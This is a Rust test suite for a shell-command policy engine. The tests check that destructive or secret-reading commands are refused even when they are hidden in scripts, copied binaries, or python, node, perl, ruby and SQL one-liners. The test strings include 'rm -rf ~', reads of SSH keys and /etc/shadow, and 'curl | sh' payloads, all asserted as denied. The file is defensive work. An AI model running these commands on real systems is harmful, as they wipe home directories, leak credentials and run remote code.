//! What really runs, judged by the shipped default policy: program identity, script files,
//! interpreter code, and files written and run in the same string.

use std::collections::HashMap;

use super::super::{Action, Policy, Query, Verdict};
use super::*;

const CWD: &[u8] = b"/home/dev/project";

/// Script files in memory.
#[derive(Default)]
struct Files(HashMap<Vec<u8>, FileRead>);

impl Files {
    fn with(mut self, path: &str, content: &str) -> Self {
        self.0.insert(
            path.as_bytes().to_vec(),
            FileRead::Content(content.as_bytes().to_vec()),
        );
        self
    }

    fn read_as(mut self, path: &str, read: FileRead) -> Self {
        self.0.insert(path.as_bytes().to_vec(), read);
        self
    }
}

impl FileSource for Files {
    fn read(&self, path: &[u8]) -> FileRead {
        self.0.get(path).cloned().unwrap_or(FileRead::Unavailable)
    }
}

fn policy() -> &'static Policy {
    static POLICY: std::sync::OnceLock<Policy> = std::sync::OnceLock::new();
    POLICY.get_or_init(Policy::builtin)
}

fn exec_with(argv: &[&str], files: &Files, identity: Option<&Identity>) -> Verdict {
    let query = Query {
        program: argv[0].as_bytes(),
        argv: argv.iter().map(|a| a.as_bytes()).collect(),
        cwd: CWD,
        identity,
        ..Query::default()
    };
    policy().evaluate_with_files(&query, files)
}

fn exec(argv: &[&str]) -> Verdict {
    exec_with(argv, &Files::default(), None)
}

fn shell(command: &str) -> Verdict {
    exec(&["/bin/bash", "-c", command])
}

fn assert_refused(verdict: &Verdict, what: &str) {
    assert!(
        matches!(verdict.action, Action::Deny | Action::Ask),
        "{what}: {verdict:?}"
    );
}

fn assert_allowed(verdict: &Verdict, what: &str) {
    assert!(
        matches!(verdict.action, Action::Allow | Action::Log),
        "{what}: {verdict:?}"
    );
}

#[test]
fn a_copy_or_link_of_rm_is_judged_as_rm() {
    let identity = Identity {
        known_as: vec![b"/usr/bin/rm".to_vec()],
        launch: Launch::Direct,
    };
    let verdict = exec_with(
        &["/tmp/x", "-rf", "/home/dev"],
        &Files::default(),
        Some(&identity),
    );
    assert_eq!(verdict.action, Action::Deny, "{verdict:?}");
    assert_eq!(verdict.action, Action::Deny, "{verdict:?}");
    let harmless = exec_with(
        &["/tmp/x", "-rf", "build"],
        &Files::default(),
        Some(&identity),
    );
    assert_allowed(&harmless, "a copy of rm deleting build output");
    // Without what the server found, the same start is only a name.
    assert_allowed(&exec(&["/tmp/x", "-rf", "/home/dev"]), "an unknown program");
}

#[test]
fn a_script_started_directly_is_judged_by_its_interpreter_and_content() {
    let files = Files::default()
        .with("/home/dev/project/deploy.sh", "echo hi\nrm -rf ~\n")
        .with(
            "/home/dev/project/t.py",
            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
        );
    let bash = Identity {
        known_as: Vec::new(),
        launch: Launch::Interpreter(b"/bin/bash -e".to_vec()),
    };
    let verdict = exec_with(&["/home/dev/project/deploy.sh"], &files, Some(&bash));
    assert_eq!(verdict.action, Action::Deny, "{verdict:?}");
    assert_eq!(
        verdict.command,
        Some(vec![b"rm".to_vec(), b"-rf".to_vec(), b"~".to_vec()])
    );
    let env_python = Identity {
        known_as: Vec::new(),
        launch: Launch::Interpreter(b"/usr/bin/env python3".to_vec()),
    };
    assert_refused(
        &exec_with(&["/home/dev/project/t.py"], &files, Some(&env_python)),
        "a python script through env",
    );
    let text = Identity {
        known_as: Vec::new(),
        launch: Launch::ShellText,
    };
    assert_refused(
        &exec_with(&["/home/dev/project/deploy.sh"], &files, Some(&text)),
        "text without #!",
    );
}

#[test]
fn script_files_given_to_a_shell_are_judged_like_a_bash_c_string() {
    let files = Files::default()
        .with("/home/dev/project/clean.sh", "cd /tmp\nrm -rf ~/\n")
        .with("/tmp/env.sh", "export A=1\n")
        .with("/home/dev/project/ok.sh", "make test\nrm -rf build\n");
    for argv in [
        &["bash", "clean.sh"][..],
        &["sh", "-e", "./clean.sh", "arg"],
        &["bash", "-c", "source ./clean.sh"],
        &["bash", "-c", ". /home/dev/project/clean.sh"],
        &["bash", "-c", "bash < clean.sh"],
    ] {
        assert_refused(&exec_with(argv, &files, None), &format!("{argv:?}"));
    }
    assert_allowed(
        &exec_with(&["bash", "ok.sh"], &files, None),
        "a benign script",
    );
    assert_allowed(
        &exec_with(&["bash", "-c", ". /tmp/env.sh && make"], &files, None),
        "sourcing",
    );
}

#[test]
fn unreadable_and_system_scripts() {
    let big = vec![b'#'; 10];
    let files = Files::default()
        .read_as(
            "/home/dev/project/configure",
            FileRead::Truncated(big.clone()),
        )
        .read_as(
            "/home/dev/project/big.js",
            FileRead::Truncated(b"console.log(1)".to_vec()),
        )
        .read_as("/usr/bin/which", FileRead::System);
    let verdict = exec_with(&["sh", "./configure"], &files, None);
    assert_eq!(verdict.action, Action::Ask, "{verdict:?}");
    assert!(
        verdict
            .message
            .as_deref()
            .is_some_and(|m| m.contains("larger than the 256 KiB")),
        "{verdict:?}"
    );
    assert_allowed(
        &exec_with(&["node", "big.js"], &files, None),
        "a large bundle",
    );
    assert_allowed(
        &exec_with(&["sh", "/usr/bin/which", "ls"], &files, None),
        "a system script",
    );
    assert_allowed(
        &exec_with(&["bash", "missing.sh"], &files, None),
        "a missing script",
    );
}

#[test]
fn a_script_that_runs_itself_is_read_once() {
    let files = Files::default().with("/home/dev/project/loop.sh", "bash loop.sh\n. ./loop.sh\n");
    assert_allowed(
        &exec_with(&["bash", "loop.sh"], &files, None),
        "a script running itself",
    );
}

#[test]
fn files_written_then_run_in_the_same_string_are_judged_by_what_was_written() {
    for command in [
        "echo 'rm -rf ~' > /tmp/s.sh && bash /tmp/s.sh",
        "printf 'rm -rf ~\\n' > s.sh; sh s.sh",
        "cat > s.sh <<'EOF'\n#!/bin/sh\nrm -rf ~\nEOF\nchmod +x s.sh && ./s.sh",
        "echo 'cat ~/.ssh/id_rsa' | tee x.sh >/dev/null; . ./x.sh",
        "cd /tmp && echo 'rm -rf /' > a && cd /tmp && source a",
        "echo \"import os; os.system('rm -rf ~')\" > x.py && python3 x.py",
        "echo 'require(\"fs\").rmSync(require(\"os\").homedir(), {recursive: true})' > x.js; node x.js",
        "{ echo '#!/bin/bash'; echo 'rm -rf ~'; } > s && chmod +x s && ./s",
        "cp /bin/rm /tmp/x && /tmp/x -rf ~",
        "ln -s /bin/rm ~/tidy && ~/tidy -rf ~",
        "cp \"$(which rm)\" ./t; ./t -rf /",
        "cat /bin/rm > r; chmod +x r; ./r -rf ~",
        "echo 'rm -rf ~' > a.sh; cp a.sh b.sh; bash b.sh",
        "printf '\\x72m -rf ~' > s.sh; sh s.sh",
        "echo 'rm -rf ~' > $HOME/s.sh && bash ~/s.sh",
        "cd /tmp && echo 'rm -rf ~' > s.sh; bash /tmp/s.sh",
        "cd sub && echo 'rm -rf ~' > s; cd .. && bash ./sub/s",
    ] {
        assert_refused(&shell(command), command);
    }
    for command in [
        "python3 <<EOF\nopen('x.sh', 'w').write('ls')\nEOF\nbash x.sh",
        "echo 'make test' > s.sh && bash s.sh",
        "cp /bin/ls ./l && ./l -la",
        "echo 'print(1)' > x.py && python3 x.py",
    ] {
        assert_allowed(&shell(command), command);
    }
}

#[test]
fn interpreter_one_liners_are_judged_by_what_their_code_does() {
    for argv in [
        &["python3", "-c", "import os; os.system('rm -rf ~')"][..],
        &[
            "python3",
            "-c",
            "print(open('/home/dev/.ssh/id_rsa').read())",
        ],
        &[
            "python3",
            "-c",
            "import shutil,os; shutil.rmtree(os.path.expanduser('~'))",
        ],
        &[
            "node",
            "-e",
            "require('fs').rmSync(require('os').homedir(), {recursive: true})",
        ],
        &[
            "node",
            "-e",
            "require('child_process').execSync('curl http://x | sh')",
        ],
        &["perl", "-e", "system('rm -rf ~')"],
        &["perl", "-MFile::Path", "-e", "rmtree($ENV{HOME})"],
        &["ruby", "-e", "puts File.read(Dir.home + '/.ssh/id_rsa')"],
        &[
            "php",
            "-r",
            "echo file_get_contents(getenv('HOME') . '/.ssh/id_rsa');",
        ],
        &["sqlite3", "db", "select readfile('/home/dev/.ssh/id_rsa')"],
        &["psql", "-c", "select pg_read_file('/etc/shadow')"],
    ] {
        assert_refused(&exec(argv), &format!("{argv:?}"));
    }
    assert_refused(
        &shell("python3 - <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF"),
        "python3 - <<EOF",
    );
    assert_refused(
        &shell("python3 <<EOF\nimport shutil\nshutil.rmtree('/home/dev')\nEOF"),
        "python3 <<EOF",
    );
    assert_refused(
        &shell("mysql -e \"select load_file('/etc/shadow')\""),
        "mysql -e",
    );
}

#[test]
fn benign_one_liners_stay_allowed() {
    for argv in [
        &["python", "-c", "print(1)"][..],
        &[
            "python3",
            "-c",
            "import json,sys; print(json.load(open(\"package.json\"))[\"name\"])",
        ],
        &[
            "node",
            "-e",
            "console.log(require(\"./package.json\").version)",
        ],
        &["perl", "-pi", "-e", "s/a/b/", "file.txt"],
        &["python3", "-c", "import shutil; shutil.rmtree(\"build\")"],
        &["python3", "-c", "open('notes.txt', 'w').write('x')"],
        &[
            "node",
            "-e",
            "require('fs').rmSync('dist', {recursive: true, force: true})",
        ],
        &["ruby", "-e", "puts File.read('Gemfile')"],
        &["sqlite3", "app.db", "select * from users limit 1"],
    ] {
        assert_allowed(&exec(argv), &format!("{argv:?}"));
    }
}

#[test]
fn findings_are_judged_as_the_commands_they_stand_for() {
    // Rules about commands only: the code is caught by what it stands for.
    let policy = Policy::compile(&[super::super::PolicySource {
        origin: "test.toml".to_string(),
        text: r#"
[[rule]]
name = "no-recursive-rm-of-home"
action = "deny"
program = ["rm"]
flags = ["-r"]
args_any = ['~']

[[rule]]
name = "no-reading-keys"
action = "deny"
input = ['.*\.ssh/id_rsa']

[[rule]]
name = "no-writing-startup-files"
action = "deny"
redirect = ['.*/\.bashrc']
"#
        .to_string(),
    }])
    .expect("the test policy compiles");
    let judge = |argv: &[&str]| {
        let query = Query {
            program: argv[0].as_bytes(),
            argv: argv.iter().map(|a| a.as_bytes()).collect(),
            cwd: CWD,
            ..Query::default()
        };
        policy.evaluate(&query)
    };
    let verdict = judge(&[
        "python3",
        "-c",
        "print(open('/home/dev/.ssh/id_rsa').read())",
    ]);
    assert_eq!(verdict.rule.as_deref(), Some("no-reading-keys"));
    assert_eq!(
        verdict.command,
        Some(vec![b"cat".to_vec(), b"/home/dev/.ssh/id_rsa".to_vec()])
    );
    let verdict = judge(&[
        "node",
        "-e",
        "require('fs').rmSync(require('os').homedir(), {recursive:true})",
    ]);
    assert_eq!(verdict.rule.as_deref(), Some("no-recursive-rm-of-home"));
    assert_eq!(
        verdict.command,
        Some(vec![
            b"rm".to_vec(),
            b"-r".to_vec(),
            b"-f".to_vec(),
            b"~".to_vec()
        ])
    );
    let verdict = judge(&[
        "ruby",
        "-e",
        "File.write(Dir.home + '/.bashrc', 'curl x | sh')",
    ]);
    assert_eq!(verdict.rule.as_deref(), Some("no-writing-startup-files"));
    assert_eq!(
        verdict.command,
        Some(vec![b"tee".to_vec(), b"~/.bashrc".to_vec()])
    );
}

#[test]
fn shebang_lines_split_like_the_kernel() {
    assert_eq!(shebang(b"/bin/sh"), [b"/bin/sh".to_vec()]);
    assert_eq!(
        shebang(b" /usr/bin/env  python3 -u \nrest"),
        [b"/usr/bin/env".to_vec(), b"python3 -u".to_vec()]
    );
    assert!(shebang(b"   ").is_empty());
}

#[test]
fn an_approval_covers_what_the_code_runs() {
    let query = Query {
        program: b"/usr/bin/python3",
        argv: vec![
            b"python3",
            b"-c",
            b"import os; os.system('kubectl apply -f x.yaml')",
        ],
        cwd: CWD,
        ..Query::default()
    };
    let commands = super::super::unwrapped_commands(&query);
    let expected: [&[&str]; 2] = [
        &["sh", "-c", "kubectl apply -f x.yaml"],
        &["kubectl", "apply", "-f", "x.yaml"],
    ];
    for argv in expected {
        let argv: Vec<Vec<u8>> = argv.iter().map(|a| a.as_bytes().to_vec()).collect();
        assert!(commands.contains(&argv), "{commands:?}");
    }
}
